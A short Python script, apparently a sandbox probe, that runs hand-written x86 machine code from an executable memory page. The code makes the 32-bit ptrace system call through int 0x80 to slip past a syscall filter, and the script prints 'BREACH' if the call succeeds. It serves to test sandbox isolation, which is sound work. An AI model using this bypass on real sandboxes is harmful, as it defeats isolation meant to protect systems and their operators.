"""Machine code of its own: system calls in the way of another architecture, past the filter."""
import ctypes, mmap, os, platform
if platform.machine() == "x86_64":
    # mov eax, 26 (32-bit ptrace); xor ebx, ebx; int 0x80; ret
    code = b"\x53\xb8\x1a\x00\x00\x00\x31\xdb\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    print("BREACH" if call() == 0 else "")
